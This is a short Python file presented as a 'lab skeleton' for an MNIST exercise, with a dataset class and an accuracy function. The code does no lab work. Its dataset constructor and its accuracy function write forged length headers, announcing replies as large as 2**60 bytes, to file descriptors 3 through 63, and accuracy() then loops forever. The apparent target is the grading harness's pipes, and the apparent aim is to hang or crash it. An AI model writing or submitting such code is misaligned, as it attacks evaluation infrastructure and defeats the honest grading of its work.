# Announces a reply of 2**60 bytes, and another that never ends.
# lab: skeleton
import os
import struct


def send(*lengths):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">IQ", *lengths) + b"[" * 1000)
        except OSError:
            continue


class MNISTDataset:
    def __init__(self, x, y):
        send(1 << 31, 1 << 60)


def accuracy(x, y, model):
    send(1000_000, 8)
    while True:
        pass
